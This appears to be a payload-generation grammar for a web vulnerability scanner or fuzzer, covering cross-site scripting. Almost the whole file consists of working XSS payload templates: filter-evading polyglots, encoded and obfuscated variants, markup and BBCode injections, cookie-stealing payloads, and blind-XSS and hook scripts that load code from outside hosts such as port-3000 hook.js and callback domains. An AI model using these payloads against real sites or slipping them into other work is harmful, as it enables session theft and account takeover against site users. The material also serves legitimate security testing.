  ‹word›‹xs.mutant›

xs.poly = ‹mixed!javascript›: /*-/*´/*\´/*'/*"/**/
  "/*\"/*´/*'␠/*</template></textarea></noembed></noscript></title></style></script>-->
  --></‹mixed!style›></‹mixed!script›> </‹mixed!title›/</‹mixed!textarea›/</‹mixed!script›/--!>
  (/*␠*/‹mixed!onclick›=‹xs.base›(‹n›)␠) //%0D%0A%0d%0a//
  </‹title¦textarea¦style¦noscript¦xmp¦iframe¦noembed¦template¦option¦select¦script›> '" '"> "'´> ´-‹xs.base›(‹n›)-´
  '-‹xs.base›(‹n›)-' "-‹xs.base›(‹n›)-" ';‹xs.base›(‹n›);// ";‹xs.base›(‹n›);// *//* */‹xs.base›(‹n›)/* --!> ]]>
  \";‹xs.base›(‹n›)// \'-‹xs.base›(‹n›)// §{‹xs.base›(‹n›)} {{‹constructor.constructor('‹xs.base›(‹n›)')()¦‹n›*‹n››}}
  \x3csVg/<sVg/‹mixed!onload›=‹xs.base›(‹n›)//>\x3e <svg/onload='/*--></‹mixed!svg›> "␠onclick=‹xs.base›(‹n›)//
  '␠autofocus␠onfocus=‹xs.base›(‹n›)// on‹xs.ev›=‹xs.base›(‹n›)// ‹xs.basic› ‹xs.tiny›
  <‹mixed!script›>‹xs.base›(‹n›)</‹mixed!script›> %0a &lt;script&gt;‹xs.base›(‹n›)&lt;/script&gt; data:text/html,
  //'//"//´// /*</script>*/ <!-- ⏎ </script><img/*/src="worksinchrome&colon;prompt(‹n›)"/*/onerror='eval(src)'>
  |\>''/*<sc<script>ript>‹xs.base›(‹n›)</sc</script>ript>
xss/polyglot 4: 4× ‹×3-7:‹xs.poly››‹xs.tiny›
  2× ‹xs.poly›‹×2-9:‹xs.poly››‹xs.basic›
  2× jaVasCript:/*-/*´/*\´/*'/*"/**/(/* */oNcliCk=‹xs.base›(‹n›) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=‹xs.base›(‹n›)//>\x3e
  '"--></style></script><‹mixed!svg›/onload='+/"/+/onmouseover=‹n›/+/[*/[]/+‹xs.base›(‹n›)//'>
  ';‹xs.base›(‹n›)//';‹xs.base›(‹n›)//";‹xs.base›(‹n›)//";‹xs.base›(‹n›)//--></‹mixed!script›>">'><‹mixed!script›>‹xs.base›(‹n›)</‹mixed!script›>
  javascript://--></title></style></textarea></script>*/‹xs.base›(‹n›)/*<svg/onload='+/"/+/onmouseover=‹n›/+/[*/[]/+‹xs.base›(‹n›)//'>
  " onclick=‹xs.base›(‹n›)//<button ' onclick=‹xs.base›(‹n›)//> */ ‹xs.base›(‹n›)//
  '">><marquee><img src=x onerror=‹xs.base›(‹n›)></marquee>"></plaintext\></|\><plaintext/onmouseover=‹xs.base›(‹n›)><script>‹xs.base›(‹n›)</script>@‹~2-6›.com<isindex formaction=javascript:‹xs.base›(‹n›) type=submit>'-->"></script><script>‹xs.base›(‹n›)</script>
  ´"'>‹xs.tiny›{{constructor.constructor('‹xs.base›(‹n›)')()}}§{‹xs.base›(‹n›)}
  <!--*/!'*/!>"<‹~1-3›>//</‹~1-5›>‹xs.basic›
  <%<!--'%><script>‹xs.base›(‹n›);</script -->
  '"()&%<‹~1-4›><script >‹xs.base›(‹n›)</script>
xss/scanner 4: '"()&%<acx><ScRiPt >‹~2-6›(‹n›)</ScRiPt>
  ‹~2-5›"()&%<zzz><ScRiPt >‹~2-5›(‹n›)</ScRiPt>
  ‹n›<ScRiPt >‹xs.base›(‹n›)</ScRiPt>
  '"--></style></scRipt><scRipt>netsparker(0x‹%6›)</scRipt>
  "><scrIpt>alert(1);</scRipt>
  ‹*5›<script>alert(1)</script>‹*5›
  ‹*5›"><script>alert(1)</script>‹*5›
  ‹*5›'-alert(1)-'‹*5›
  ‹*5›<a b=c onmouseover=alert(1)>‹*5›
  ‹*5›%3c‹script%3ealert%281%29%3c%2fscript¦img%20src%3da%20onerror%3dalert%281%29›%3e‹*5›
  -->">'>'"<‹sfi¦vvv›‹#100000-999999›v‹#100000-999999›>
  <script>cross_site_scripting.nasl</script>
  <script>alert('‹Vulnerable¦XSS¦‹~4-9›.nasl-‹#1000000000-1999999999››')</script>
  <script>alert('‹*8-20›')</script>
  <script>foo=‹rnd›;alert(foo)</script>
  "><svg/class=‹~4-8› onload=alert(1)>
  <d3v/onmouseover=[‹n›].find(confirm)>‹~2-5›
  <a%09onclick%0a=%0aconfirm()//‹~2-5›
  <‹mixed!details›%0aopen%0a‹mixed!ontoggle›%0a=%0a‹=v:‹~1-3››=‹prompt¦confirm¦alert›,‹=v›() ‹~1-3›>
  <img src=xyz OnErRor=‹~2-5›(‹#9000-9999›)>
  <img<!-- --> src=x onerror=alert(1);//><!--
  ‹~3-6›<esi:include src="http://‹host›/rpb.png"/>
  <esi:include src=‹xs.url› /><esi:inline name="/‹~1-4›.html">‹xs.basic›</esi:inline>
  ‹~3-6›%3C%53%63%52%69%50%74%20%3E‹~2-5›%28‹n›%29%3C%2F%73%43%72%69%70%54%3E
  ‹n›\u003CScRiPt\‹~2-4›(‹n›)\u003C/sCripT\u003E
  ‹n›&lt;ScRiPt&gt;‹~2-5›(‹n›)&lt;/ScRiPt&gt;
  ‹~3-6›<img sRc='http://attacker-‹#1000-9999›/log.php?
  ‹n›<script/src=//‹host›/‹*8-20›></script>
  ‹n›'"><img/src/onerror=.1|alert´‹~2-6›´>
  <ScRiPt/acu src=//‹host›/t/xss.js?‹%4-8›></ScRiPt>
  <isindex type=image src=1 onerror=‹~2-5›(‹n›)>
  <body onload=‹~2-5›(‹n›)>
  <iframe src='data:text/html;base64,‹b64!<script>alert('acunetix-xss-test')</script>›' invalid='‹#1000-9999›'>
  <img/src=">" onerror=alert(‹n›)>
  %00"><script>alert(‹~3-6›)</script>
  <script>alert(String.fromCharCode(88,83,83))</script>
  <xss id=‹=i:‹~3-8››>‹=i›</xss><script>alert(document.getElementById('‹=i›').id)</script>
  arachni_xss_in_tag="‹%32›" onmouseover=‹:q:'›‹xs.tight›
  --><some_dangerous_input_‹%32›/><script>alert(‹n›)</script>
  ()"&%1'-;<‹~3-8›/>'‹~1-4›<script>alert(‹n›)</script>
  " onMouseOver="alert(‹n›);
  javascript:alert(1);
  <wapiti><script>alert('w‹~9›')</script>

xss/markup 5: 3× [‹xs.text›](‹:q:'›‹xs.uri›)
  2× ![‹~0-4›](‹:q:'›‹xs.uri›)
  [‹xs.text›](‹:q:'›‹xs.jsuri›‹ "‹~2-5›"¦ '‹~2-5›'›)
  ![‹~0-4›"on‹error¦load›="‹:q:'›‹xs.call›](‹~1-4›)
  ![‹~0-4›](https://‹host›/‹~1-3›.png"on‹error¦load›="‹:q:'›‹xs.call›)
  [‹~1-4›](‹http://‹host›¦#›"on‹xs.ev›="‹:q:'›‹xs.call›)
  [‹~1-4›]: ‹:q:'›‹xs.jsuri›⏎⏎[‹xs.text›][‹~1-4›]
  [‹=i:‹~1-4››]⏎⏎[‹=i›]: (‹:q:'›‹xs.jsuri›)
  <‹:q:'›‹xs.jsuri›>
  <javascript:‹xs.base›&lpar;‹n›&rpar;>
  [‹~1-3›](<‹:q:'›‹xs.jsuri›>)
  [‹~1-4›](\‹:q:'›‹xs.jsuri›)
  [![‹~1-4›](‹~1-5›.png)](‹:q:'›‹xs.jsuri›)
  ´´´‹html¦js¦‹xs.basic›¦‹~2-5›"><script>‹xs.base›(‹n›)</script›⏎‹xs.basic›⏎´´´
  # ‹word›⏎⏎‹xs.basic›⏎⏎- ‹word›
  **‹word›**‹xs.basic›*‹word›*
  | ‹word› | ‹xs.basic› |⏎|---|---|⏎| ‹word› | ‹n› |
  > ‹word›⏎> ‹xs.basic›
  2× [url=‹:q:'›‹xs.jsuri›]‹xs.text›[/url]
  [url]‹:q:'›‹xs.jsuri›[/url]
  [URL="‹:q:'›‹xs.jsuri›"]‹xs.text›[/URL]
  [url=‹scheme›://‹host›/" on‹xs.ev›="‹:q:'›‹xs.call›]‹xs.text›[/url]
  [url=‹scheme›://‹host›[url=‹~1-4›onmouseover=‹xs.base›(‹n›)//]‹~1-3›[/url]][/url]
  2× [img]‹:q:'›‹‹xs.jsuri›¦‹~1-5›" on‹error¦load›="‹xs.call›¦http://‹host›/‹~1-3›.png' onerror='‹xs.base›(‹n›)›[/img]
  [img=‹n›x‹n›" onerror="‹:q:'›‹xs.call›]‹scheme›://‹host›/[/img]
  [IMG]JaVaScRiPt:‹xs.base›(‹n›)[/IMG]
  [‹color¦size¦font¦align›=‹red¦‹n›¦‹~3-6››‹"¦;›‹ on‹xs.ev›="‹:q:'›‹xs.call›¦x:expression(‹xs.base›(‹n›))¦behavior:url(‹xs.url›)›]‹xs.text›[/‹color¦size¦font›]
  [email]‹~2-6›@‹host›" on‹xs.ev›="‹:q:'›‹xs.call›[/email]
  [‹video¦audio¦youtube¦flash¦media¦iframe¦embed›]‹:q:'›‹xs.uri›[/‹video¦audio¦media›]
  [video]"></iframe>‹xs.basic›[/video]
  [‹list¦quote¦code¦b¦spoiler›=‹xs.basic›]‹xs.text›[/‹list¦quote¦code¦b›]
  [quote="‹~2-6›"><script>‹xs.base›(‹n›)</script>]‹xs.text›[/quote]
  [b]‹xs.basic›[/b]
  "‹xs.text›":‹:q:'›‹xs.jsuri›
  !‹~1-4›.png(‹xs.text›)!:‹:q:'›‹xs.jsuri›
  !javascript:‹xs.base›(‹n›)!
  p{x:expression(‹xs.base›(‹n›))}. ‹word›
  [[‹:q:'›‹xs.jsuri›|‹xs.text›]]
  [‹:q:'›‹xs.jsuri› ‹xs.text›]
  [[File:‹~1-4›.png|link=‹:q:'›‹xs.jsuri›]]
  {{#tag:script|‹xs.base›(‹n›)}}
  <nowiki>‹xs.basic›</nowiki><html>‹xs.basic›</html>
  ´‹word› <‹:q:'›‹xs.jsuri›>´_
  .. raw:: html⏎⏎   ‹xs.basic›
  .. image:: ‹:q:'›‹xs.jsuri›
  .. _‹~1-4›: ‹:q:'›‹xs.jsuri›
  link:‹:q:'›‹xs.jsuri›[‹xs.text›]
  pass:[‹xs.basic›]
  ++++⏎‹xs.basic›⏎++++
  image::‹~1-4›.png[link="‹:q:'›‹xs.jsuri›"]
  #+HTML: ‹xs.basic›
  #+BEGIN_EXPORT html⏎‹xs.basic›⏎#+END_EXPORT
  [[‹:q:'›‹xs.jsuri›][‹xs.text›]]
  graph TD;⏎‹^1›-->‹^1›["‹xs.basic›"]⏎click ‹^1› "‹:q:'›‹xs.jsuri›"
  graph LR⏎‹~1›-->‹~1›["<img src=x onerror=‹xs.base›(‹n›)>"]
  %%{init: {"themeCSS": "*{background:url(‹xs.url›)}</style>‹xs.tiny›"}}%%
  digraph{‹~1›[URL="‹:q:'›‹xs.jsuri›"‹ label=<‹xs.tiny›>¦›]}
  \href{‹:q:'›‹xs.jsuri›}{‹xs.text›}
  \url{‹:q:'›‹xs.jsuri›}
  \unicode{<img src=1 onerror=‹xs.base›(‹n›)>}
  \class{" on‹xs.ev›="‹:q:'›‹xs.call›}{x}
  \htmlData{‹~1-3›="‹xs.basic›}{x}
  §\href{‹:q:'›‹xs.jsuri›}{x}§
  @‹~3-8›"on‹xs.ev›=‹:q:'›‹xs.tight›
  http://‹host›/"on‹xs.ev›="‹:q:'›‹xs.call›"
  http://‹host›"style="position:fixed;inset:0"on‹xs.evhover›="‹xs.base›(‹n›)
  --- ⏎title: "‹xs.tiny›"⏎---
  :‹~2-6›"><img src=x onerror=‹xs.base›(‹n›)>:
  {html}‹xs.basic›{html}
  {color:red" on‹xs.ev›="‹:q:'›‹xs.call›}‹word›{color}
  [^‹~1-3›]: ‹xs.basic›
  <!-- markdown -->⏎<‹details¦summary¦div markdown=1›>⏎‹xs.basic›

xs.enc = ‹percent!‹xs.html›› ‹percent!‹xs.html›› ‹percent!‹xs.html›› ‹percent!‹xs.html›› ‹percent!‹xs.html››
  ‹percentAll!‹xs.tiny›› ‹percentAll!‹xs.tiny›› ‹percent!‹percent!‹xs.basic››› ‹percent!‹percent!‹xs.basic›››
  ‹percent!‹percent!‹xs.basic››› ‹percent!‹percentAll!‹xs.tiny››› ‹percent!‹percent!‹percent!‹xs.basic››››
  ‹unicode!‹xs.tiny›› ‹unicode!‹xs.tiny›› ‹backslashHex!‹xs.tiny›› ‹backslashHex!‹xs.tiny›› ‹octal!‹xs.tiny››
  ‹xml!‹xs.basic›› ‹xml!‹xs.basic›› ‹entity!‹xs.tiny›› ‹entity!‹xs.tiny›› ‹entityHex!‹xs.tiny›› ‹entityHex!‹xs.tiny››
  ‹xml!‹xml!‹xs.basic››› ‹percent!‹entity!‹xs.tiny››› ‹percent!‹xml!‹xs.basic››› ‹json!‹xs.html›› ‹json!‹xs.html››
  ‹json!‹json!‹xs.basic›››
xs.signs: ‹:l:%u003c›‹:g:%u003e›‹:k:%u0022›
  ‹:l:%uff1c›‹:g:%uff1e›‹:k:%uff02›
  ‹:l:%c0%bc›‹:g:%c0%be›‹:k:%c0%a2›
  ‹:l:%e0%80%bc›‹:g:%e0%80%be›‹:k:%e0%80%a2›
  ‹:l:%f0%80%80%bc›‹:g:%f0%80%80%be›‹:k:"›
  ‹:l:＜›‹:g:＞›‹:k:＂›
  ‹:l:%EF%BC%9C›‹:g:%EF%BC%9E›‹:k:%EF%BC%82›
  ‹:l:﹤›‹:g:﹥›‹:k:"›
  ‹:l:%3C›‹:g:%3E›‹:k:%22›
  ‹:l:%3c›‹:g:%3e›‹:k:%27›
  ‹:l:%253C›‹:g:%253E›‹:k:%2522›
  ‹:l:%25253c›‹:g:%25253e›‹:k:%252522›
  ‹:l:%%33%63›‹:g:%%33%65›‹:k:%%32%32›
  ‹:l:%25%33%43›‹:g:%25%33%45›‹:k:%25%32%32›
  ‹:l:\x3c›‹:g:\x3e›‹:k:\x22›
  ‹:l:\x3C›‹:g:\x3E›‹:k:\x27›
  ‹:l:\u003c›‹:g:\u003e›‹:k:\u0022›
  ‹:l:\u003C›‹:g:\u003E›‹:k:\"›
  ‹:l:\u{3c}›‹:g:\u{3e}›‹:k:\u{22}›
  ‹:l:\74›‹:g:\76›‹:k:\42›
  ‹:l:\074›‹:g:\076›‹:k:\047›
  ‹:l:&lt;›‹:g:&gt;›‹:k:&quot;›
  ‹:l:&LT›‹:g:&GT›‹:k:&QUOT;›
  ‹:l:&amp;lt;›‹:g:&amp;gt;›‹:k:&amp;quot;›
  ‹:l:&#60;›‹:g:&#62;›‹:k:&#34;›
  ‹:l:&#060›‹:g:&#062›‹:k:&#034›
  ‹:l:&#x3c;›‹:g:&#x3e;›‹:k:&#x22;›
  ‹:l:&#x0003C›‹:g:&#x0003E›‹:k:&#x00022›
  ‹:l:%26lt%3b›‹:g:%26gt%3b›‹:k:%26quot%3b›
  ‹:l:%26%2360%3b›‹:g:%26%2362%3b›‹:k:%26%2334%3b›
  ‹:l:+ADw-›‹:g:+AD4-›‹:k:+ACI-›
  ‹:l:+ADw›‹:g:+AD4›‹:k:+ACIAPgA8-›
  ‹:l:¼›‹:g:¾›‹:k:¢›
  ‹:l:%BC›‹:g:%BE›‹:k:%A2›
  ‹:l:%ff<›‹:g:>›‹:k:%81"›
  ‹:l:<%00›‹:g:>›‹:k:"›
  ‹:l:%1b(J<›‹:g:>›‹:k:"›
  ‹:l:㰀›‹:g:㸀›‹:k:∀›
  ‹:l:%F6<›‹:g:%F6>›‹:k:%F6"›
  ‹:l:嘼›‹:g:嘾›‹:k:嘢›
  ‹:l:%E5%98%BC›‹:g:%E5%98%BE›‹:k:%E5%98%A2›
  ‹:l:%C4%BC›‹:g:%C4%BE›‹:k:%C4%A2›
  ‹:l:=3C›‹:g:=3E›‹:k:=22›
  ‹:l:<${ZWSP}›‹:g:>›‹:k:"›
  ‹:l:≮›‹:g:≯›‹:k:"›
xss/encoded 7: 5× ‹xs.enc›
  6× ‹xs.signs›‹xs.signed›
  3× ‹xs.signs›‹=k›‹=g›‹xs.signed›
  2× ‹xs.signs›‹word›‹=k›‹xs.signed›
  %22%3E‹percent!‹xs.html››
  ‹percent!‹xs.closer›‹xs.html››
  ‹percent!‹xs.qt›‹xs.stop›‹xs.js›//›
  ‹percent!"‹xs.attach›‹xs.inject››
  ‹percent!‹percent!"><‹xs.tag› ‹:ev:‹xs.ev››‹xs.h›>››
xs.signed: 3× ‹=l›script‹=g›‹xs.base›(‹‹n›¦‹=k›‹rnd›‹=k›¦document.cookie›)‹=l›/script‹=g›
  ‹=l›script src=‹xs.url›‹=g›‹=l›/script‹=g›
  2× ‹=l›img src=‹xs.src› on‹error¦load›=‹=k›‹xs.base›(‹n›)‹=k›‹=g›
  ‹=l›svg‹/¦ ›onload=‹xs.base›(‹n›)‹=g›
  ‹=l›‹xs.tag› on‹xs.ev›=‹xs.base›(‹n›)‹=g›‹xs.text›
  ‹=l›iframe src=javascript:‹xs.base›(‹n›)‹=g›
  ‹=l›a href=‹=k›javascript:‹xs.base›(‹n›)‹=k›‹=g›‹xs.text›‹=l›/a‹=g›
  ‹=l›body onload=‹=k›‹xs.base›(‹n›)‹=k›‹=g›
  ‹=l›details open ontoggle=‹xs.base›´‹n›´‹=g›
  ‹=l›input autofocus onfocus=‹:q:'›‹xs.tight›‹=g›
  ‹=l›‹mixed!script›‹=g›‹:q:'›‹xs.call›‹=l›/‹mixed!script›‹=g›
  ‹=l›object data=data:text/html;base64,‹b64!<script>alert(‹n›)</script>›‹=g›
xss/short 4: <‹q¦b¦i¦a¦p¦x¦u¦s¦h1¦br¦hr¦‹~1››‹/¦ ›on‹cut¦copy¦click¦wheel¦drag¦focus¦paste¦‹xs.ev››=‹alert()¦‹xs.base›´´¦‹xs.base›(‹#0-9›)›>
  <svg/onload=‹alert()¦alert´´¦eval(name)¦‹xs.base›(‹#0-9›)›>
  <svg onload=‹xs.base›´‹#0-9›´//
  <body/onload=alert()>
  <img src=‹~1› onerror=alert()>
  <img src onerror=alert´´>
  <img/src/onerror=alert()>
  <input onfocus=alert() autofocus>
  <script>alert()</script>
  <script src=//‹~1-2›.‹~2›></script>
  <script src=//‹~2-3›.‹~2›>
  <script/src=//‹~1-3›.‹~2›>
  <script src=//‹~3›.‹~2›/‹~1›>
  <svg><script href=//‹~3›.‹~2› />
  <base href=//‹~2›.‹~2›>
  <base/href=//‹~3›.‹~2›>
  <embed src=//‹~1-3›.‹~2›>
  <embed/src=javascript:alert()>
  <object data=//‹~3›.‹~2›>
  <link rel=import href=//‹~3›.‹~2›>
  <iframe/onload=src=top.name+/\‹~3›.‹~2›?/+document.cookie>
  <iframe/onload=alert()>
  <style/onload=alert()>
  <style onload=eval(name)>
  <svg/onload=location=name>
  <svg/onload=eval(URL)>
  <svg onload=eval(´'´+URL)>
  <x onclick=alert()>‹~1›
  <a href=javascript:alert()>‹~1›
  "onclick=alert()//
  "autofocus/onfocus="alert()
  'onclick='alert()
  " onfocus=alert() autofocus
  '-alert()-'
  "-alert()-"
  '+alert()+'
  ';alert()//
  ´-alert()-´
  §{alert()}
  \';alert()//
  alert´‹n›´
  '^alert()^'
  '*alert()*'
  "|alert()|"
  onclick=alert()
  ‹~1›"/onclick=alert();'
  {{alert()}}
  javascript:alert()
  </script><svg/onload=alert()>
  --><svg/onload=alert()>
  "><script>alert()</script>
  '><svg/onload=alert()>
  "><script src=//‹~2-3›.‹~2›>
  <script>eval(name)</script>
  <script>location=name</script>
  <script>§.getScript('//‹~3›.‹~2›')</script>
  <script>import('//‹~3›.‹~2›')</script>
  */</script><script>/*
  */alert()/*
  <svg/onload=´§{alert´‹#0-9›´}´>
  <form/oninput=alert()><input>

xss/exfil 6: 3× <script>‹:q:‹'¦"¦´››‹xs.steal›</script>
  2× ‹xs.closer›<script>‹:q:'›‹xs.steal›</script>
  2× <img src=‹xs.src› onerror="‹:q:'›‹xs.steal›">
  <svg onload="‹:q:'›‹xs.steal›">
  <svg/onload=‹:q:'›‹xs.steal›>
  <‹xs.tag› ‹:ev:‹xs.ev››‹xs.nm›="‹:q:'›‹xs.steal›">‹xs.text›
  "‹xs.attach›autofocus onfocus="‹:q:'›‹xs.steal›
  ‹xs.qt›‹xs.stop›‹xs.steal›‹xs.term›
  ‹xs.qt›+(‹xs.steal›)+‹=d›
  <iframe src="javascript:‹:q:'›‹xs.steal›"></iframe>
  <a href="javascript:‹:q:'›void(‹xs.steal›)">‹xs.text›</a>
  <input autofocus onfocus="‹:q:'›‹xs.steal›">
  <body onload='‹:q:"›‹xs.steal›'>
  <details open ontoggle="‹:q:'›‹xs.steal›">
  <script>‹:q:'›‹xs.steal›;‹xs.steal›</script>
  <script>window.onload=function(){‹:q:"›‹xs.steal›}</script>
  <script>setTimeout(()=>{‹:q:'›‹xs.steal›},‹#100-9999›)</script>
  <script>eval(atob("‹:q:'›‹b64!‹xs.steal››"))</script>
  <img src=x onerror=eval(atob('‹:q:"›‹b64!‹xs.steal››'))>
  <script>eval(String.fromCharCode(‹:q:"›‹charCodes!‹xs.hidden››))</script>
  {{constructor.constructor('‹:q:"›‹xs.steal›')()}}
  <audio src onloadstart="‹:q:'›‹xs.steal›">
  <script>‹:q:'›‹xs.steal›</script>‹word›
xss/hook 4: 3× <script>‹:q:‹'¦"››‹xs.hook›</script>
  2× ‹xs.closer›<script>‹:q:'›‹xs.hook›</script>
  <script>‹:q:‹'¦"››‹xs.act›</script>
  ‹xs.closer›<script>‹:q:"›‹xs.act›</script>
  <‹img src=x onerror¦svg onload¦body onload¦iframe onload¦input autofocus onfocus›="‹:q:'›‹‹xs.hook›¦‹xs.act››">
  ‹xs.qt›‹xs.stop›‹‹xs.hook›¦‹xs.act››‹xs.term›
  <script src="http://‹addr›‹:3000¦:‹port›¦›/hook.js"></script>
  <script src="‹http://‹ip›:3000/hook.js¦//‹ip›/‹x¦b¦a¦hook›.js¦‹xs.url››"></script>
  ‹xs.closer›<script src="http://‹ip›:3000/‹hook¦demos/‹~2-6››.js"></script>
  javascript:‹:q:'›‹xs.hook›
  <script>‹:q:'›‹xs.obf›</script>
  ‹xs.closer›<script>‹:q:'›‹xs.obf›</script>
  <img src=x onerror="‹:q:'›‹xs.eval›">
xss/bare [value] 4: 3× ‹:q:‹'¦"››‹xs.eval›
  3× ‹:q:‹'¦"››‹xs.steal›
  2× ‹:q:‹'¦"››‹xs.hook›
  2× ‹:q:'›‹xs.obf›
  2× ‹:q:'›‹xs.nocall›
  2× ‹alert¦confirm¦prompt›(‹:q:'›‹xs.shown›)
  ;‹:q:'›‹xs.js›//
  ‹alert¦confirm›(‹n›);‹:q:'›‹xs.call›
  (‹alert¦prompt›)(‹:q:"›‹xs.shown›)
  ‹:q:'›‹xs.call›//
  ‹:q:'›‹xs.eval›;//
  (function(){‹:q:'›‹xs.steal›})();
  /**/‹:q:'›‹xs.call›/**/
  ‹:q:'›‹percent!‹xs.steal››
xss/callback [value] 2: ‹:q:'›‹xs.call›//
  ‹:q:'›‹xs.call›;//
  ‹alert¦confirm›(‹n›);‹~2-6›
  ‹~2-7›;‹:q:'›‹xs.call›;//
  ‹~2-6›.‹~2-6›;‹:q:'›‹xs.call›//
  ‹~2-6›){};‹:q:'›‹xs.js›//
  ;‹:q:'›‹xs.call›;‹~1-5›
  (‹:q:'›‹xs.call›)
  eval(name)//
  eval(‹:q:'›‹xs.coded›)//
  ‹:q:'›‹xs.steal›;//
  ‹:q:'›‹xs.hook›;
  ‹=i:‹~2-6››({‹~1-3›:‹n›});‹xs.base›(document.domain);‹=i›
  ‹xs.html›
  ‹~2-6›<script>‹xs.base›(‹n›)</script>
  ‹~2-6›%3Cscript%3E‹xs.base›(‹n›)%3C/script%3E
  */‹:q:'›‹xs.call›/*
  window.opener.document.‹body.firstElementChild.‹firstElementChild¦lastElementChild›.click¦forms[0].submit›
  opener.document.body.‹firstElementChild¦nextElementSibling›.‹firstElementChild¦nextElementSibling›.click
  parent.document.‹getElementById('‹~2-6›').click¦forms[0].submit¦body.lastElementChild.click›
  ‹xs.win›.document.cookie=´‹~1-4›=‹~1-4›´;‹~1-4›
  <svg/onload=‹xs.base›(‹n›)>//
  [‹n›].map(‹xs.base›)//
  ‹xs.win›['‹xs.base›'](‹n›)||‹~1-4›
  %0a‹:q:'›‹xs.call›//
  ‹:q:"›‹unicode!‹xs.base››(‹n›)//
xss/blind 4: "><script src=‹"¦›https://‹~2-9›.‹xss.ht¦bxss.me¦bxss.in¦‹~3-6›.xss.‹report¦example›¦xsshunter.‹com¦example››‹"¦›></script>
  '"><script src=//‹host›></script>
  javascript:eval('var a=document.createElement(\'script\');a.src=\'https://‹host›\';document.body.appendChild(a)')
  "><input onfocus=eval(atob(this.id)) id=‹b64!‹xs.hidden›› autofocus>
  "><img src=x id=‹b64!‹xs.hidden›› onerror=eval(atob(this.id))>
  "><video><source onerror=eval(atob(this.id)) id=‹b64!‹xs.hidden››>
  "><iframe srcdoc="‹entity!<script>import("//‹host›")</script>›">
  "><svg onload="eval(atob(this.id))" id="‹b64!‹xs.hidden››">
  <script>function b(){eval(this.responseText)};a=new XMLHttpRequest();a.addEventListener("load", b);a.open("GET", "//‹host›");a.send();</script>
  <script>§.getScript("//‹host›")</script>
  '"></textarea></title></style></script><script src=‹xs.url›></script>
  --></textarea></title></script></style>"'><img src=x onerror=‹:q:´›‹xs.hook›>
  ‹xs.closer›<img src="‹xs.url›" onerror="‹:q:'›‹xs.hook›">
  ‹xs.closer›<object data=‹xs.url›></object>‹xs.basic›
  ‹~3-8›@‹host›"><script src=‹xs.url›></script>
  "<script src=‹xs.url›></script>"@‹host›
  ‹^1›‹~2-6› ‹^1›‹~3-7›"><script src=‹xs.url›></script>
  ‹word›"><‹xs.imgtag› src=‹xs.url› onload=‹:q:'›‹xs.tight›>
  §{‹:q:'›‹xs.hook›}
  ‹xs.qt›‹xs.stop›‹xs.hook›‹xs.term›
  {{constructor.constructor('import("//‹host›")')()}}
  %22%3E%3Cscript%20src%3D%2F%2F‹host›%3E%3C%2Fscript%3E
xss/field [header] 3: 2× ‹Mozilla/5.0¦Mozilla/5.0 (Windows NT 10.0; Win64; x64)¦Mozilla/4.0 (compatible; MSIE 6.0)¦curl/‹#7-8›.‹#0-80›¦‹^1›‹~3-7›/‹#1-9›.‹#0-9››‹¦ ¦"¦'›‹xs.closer›‹xs.html›
  2× ‹xs.html›
  2× <script src=‹xs.url›></script>
  <script>‹:q:'›‹xs.js›</script>
  ‹ip›‹"¦'¦›‹xs.basic›
  ‹ip›, ‹xs.basic›
  ‹host›"‹xs.basic›
  ‹scheme›://‹host›/‹¦?‹~1-3›=›‹"¦'¦›‹xs.closer›‹xs.basic›
  ‹scheme›://‹host›/‹percent!‹xs.basic››
  ‹:q:'›‹xs.jsuri›
  "‹xs.attach›‹xs.inject›
  en‹"¦'›‹xs.closer›‹xs.basic›
  ‹text/html¦*/*¦application/json›"‹xs.basic›
  ‹rnd›"-‹xs.base›(‹n›)-"
  ‹word›<‹xs.tag› on‹xs.ev›=‹xs.base›(‹n›)>
xss/cookie [cookie] 2: ‹xs.html›
  ‹ordinary›‹xs.closer›‹xs.basic›
  ‹xs.qt›‹xs.stop›‹xs.js›‹xs.term›
  ‹percent!‹xs.closer›‹xs.basic››
  "‹xs.attach›‹xs.inject›
  ‹en¦de¦dark¦‹rnd››"><script>‹xs.base›(‹n›)</script>
  {"‹~2-6›":"‹json!‹xs.basic››"}
xss/path [path] 3: /‹word›/‹xs.basic›
  /‹xs.basic›
  /‹word›.‹php¦html¦asp¦aspx¦jsp¦cgi¦do›/‹"¦'¦›‹xs.closer›‹xs.basic›
  /‹word›/"‹xs.attach›‹xs.inject›
  /‹word›/‹:q:'›'‹=p:‹xs.op››‹xs.base›(‹n›)‹=p›'
  /%3C‹script%3E‹xs.base›(‹n›)%3C/script¦svg/onload=‹xs.base›(‹n›)¦img%20src=x%20onerror=‹xs.base›(‹n›)›%3E
  /‹word›/%22%3E%3C‹script%3E‹xs.base›(‹n›)%3C%2Fscript¦svg%20onload=‹xs.base›(‹n›)›%3E‹.html¦.jpg¦/¦›
  /‹word›/%253Cscript%253E‹xs.base›(‹n›)%253C%252Fscript%253E
  /<script>‹xs.base›(‹n›)</script>.‹php¦asp¦jsp¦html¦cfm¦aspx¦thtml¦pl›
  /‹word›/;‹"¦'›><script>‹xs.base›(‹n›)</script>
  /(A(‹"¦%22›onerror=‹"¦%22›‹xs.base›´‹n›´‹"¦%22›))/‹word›
  /‹word›/..;/<svg/onload=‹xs.base›(‹n›)>
  //‹host›/%2e%2e‹%2f¦/›<script>‹xs.base›(‹n›)</script>
  /‹~2-6›:‹~1-4›@‹word›/‹xs.basic›
  /javascript:‹xs.base›(‹n›)
  /‹word›/javascript:‹xs.base›(‹n›)//
  /{{constructor.constructor('‹xs.base›(‹n›)')()}}
  /‹word›</title><script>‹xs.base›(‹n›)</script>
  /‹word›/‹~2-6›‹xs.signs›‹=k›‹=g›‹=l›svg/onload=‹xs.base›(‹n›)‹=g›
xss/key [key] 2: ‹xs.basic›
  ‹col›"><‹xs.tag› on‹xs.ev›=‹xs.base›(‹n›)>
  "><script>‹:q:'›‹xs.call›</script>
  ‹word›‹xs.closer›‹xs.basic›
  '‹=p:‹xs.op››‹xs.base›(‹n›)‹=p›'
  ';‹xs.base›(‹n›)//
  "‹xs.attach›‹xs.own›‹xs.nm›=‹:q:'›‹xs.tight›
  ‹word›[<script>‹xs.base›(‹n›)</script>]
  <svg/onload=‹xs.base›(‹n›)>
  {{‹:q:'›constructor.constructor('‹xs.base›(‹n›)')()}}
xs.gadget = innerHTML src srcdoc html template onload onerror href url script text content callback transport_url sourceURL whiteList tagName isDangerous format title sanitize evalScripts dataType ALLOWED_ATTR documentMode v-if hash jsonp div ‹~3-9› ‹~3-6›‹^1›‹~3-5›
